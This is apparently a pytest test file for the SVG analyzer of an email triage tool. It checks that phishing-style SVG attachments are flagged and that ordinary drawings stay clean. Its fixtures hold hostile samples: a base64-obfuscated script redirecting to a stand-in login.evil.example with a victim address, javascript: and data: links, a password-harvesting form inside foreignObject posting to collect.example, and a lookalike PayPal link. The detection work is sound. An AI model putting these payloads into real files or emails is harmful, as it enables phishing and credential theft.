"""svg analyzer: SVG "images" shaped like the 2024-2025 phishing attachments (script that
redirects, event handlers, javascript:/data: links and animations, a login form in a
foreignObject), ordinary drawings staying clean, and hostile markup that must stay linear."""

from __future__ import annotations

import time

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, svg
from triage_helpers import art, ids

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: drawing tool -->\n'
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="200">'


def doc(body: str) -> bytes:
    return (HEAD + OPEN + body + "</svg>").encode()


DRAWING = doc('<title>Logo</title><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
              '<rect width="400" height="200" fill="url(#g)"/><text x="10" y="40">ACME Corp</text>'
              '<a href="https://www.acme.example/"><circle cx="300" cy="100" r="40"/></a>')
REDIRECT = doc('<rect width="400" height="200"/><script type="text/javascript"><![CDATA[\n'
               'var u = atob("aHR0cHM6Ly9sb2dpbi5ldmlsLmV4YW1wbGUv"); window.location.href = u + "#" + "victim@corp.example";\n'
               ']]></script>')


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, data: bytes, name: str = "Fax_Message.svg"):
    p = tmp_path / name
    p.write_bytes(data)
    return triage.analyze(art(p))


def test_redirecting_script_is_malicious(triage, tmp_path):
    r = run(triage, tmp_path, REDIRECT)
    found = ids(r)
    assert r.kind == "html" and found["svg_redirect"] == 7 and found["svg_script"] == 6
    assert r.verdict == "malicious"


def test_ordinary_drawing_is_clean(triage, tmp_path):
    r = run(triage, tmp_path, DRAWING, "logo.svg")
    assert r.verdict == "clean" and not [f for f in r.findings if f.source == svg.SOURCE], r.findings


def test_event_handler(triage, tmp_path):
    found = ids(run(triage, tmp_path, doc('<image href="x.png" onload="document.title=1" width="10" height="10"/>')))
    assert found["svg_event_handler"] == 5 and "svg_redirect" not in found


def test_handler_that_navigates(triage, tmp_path):
    found = ids(run(triage, tmp_path, doc('<rect width="9" height="9" onclick="top.location=\'https://e.example/\'"/>')))
    assert found["svg_redirect"] == 7 and found["svg_event_handler"] == 5


@pytest.mark.parametrize("body", [
    '<a xlink:href="javascript:alert(document.domain)"><text y="20">Open</text></a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><text y="20">Open</text></a>',
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">click</text></a>',
    '<a href="&#106;avascript:alert(1)"><text y="20">entity-encoded</text></a>',
])
def test_script_targets(triage, tmp_path, body):
    assert ids(run(triage, tmp_path, doc(body)))["svg_javascript_href"] == 7


def test_login_form_in_foreign_object(triage, tmp_path):
    body = ('<foreignObject width="400" height="200"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
            '<form action="https://collect.example/p.php" method="post"><input name="u"/>'
            '<input type="password" name="p"/><button>Sign in</button></form></body></html></foreignObject>')
    found = ids(run(triage, tmp_path, doc(body)))
    assert found["svg_foreign_form"] == 7


def test_iframe_in_foreign_object(triage, tmp_path):
    found = ids(run(triage, tmp_path, doc('<foreignObject width="9" height="9"><iframe src="https://e.example/"/></foreignObject>')))
    assert found["svg_foreign_form"] == 6


def test_phishing_link(triage, tmp_path):
    found = ids(run(triage, tmp_path, doc('<a href="https://paypal.com.account-verify.top/signin"><rect width="9" height="9"/></a>')))
    assert found["svg_suspicious_link"] >= 5


def test_html_page_is_not_svg(triage, tmp_path):
    page = b"<html><body><svg><script>window.location='https://e.example'</script></svg></body></html>"
    r = run(triage, tmp_path, page, "page.html")
    assert not [f for f in r.findings if f.source == svg.SOURCE]
    assert svg.is_svg(HEAD + OPEN) and not svg.is_svg(page.decode())


@pytest.mark.parametrize("body", ["<" * 200_000, "<a " + "x=" * 200_000, "<script>" + "a" * 500_000,
                                  "<!--" * 100_000, '<a href="' + "j" * 300_000])
def test_hostile_markup_is_linear(body):
    t0 = time.process_time()
    svg.findings_for(svg.scan(HEAD + OPEN + body))
    assert time.process_time() - t0 < 20  # generous: quadratic behaviour would take minutes


def test_image_that_is_a_link_with_a_call_to_action(triage, tmp_path):
    body = ('<rect width="400" height="200" fill="#eee"/><text x="20" y="40">Voice message (0:47)</text>'
            '<a href="https://share.example.net/vm/77"><rect x="20" y="80" width="160" height="40" fill="#2b579a"/>'
            '<text x="40" y="105" fill="#fff">Listen now</text></a>')
    found = ids(run(triage, tmp_path, doc(body)))
    assert found["svg_link_lure"] == 5
    assert "svg_link_lure" not in ids(run(triage, tmp_path, DRAWING, "logo.svg"))  # a logo linking home is not
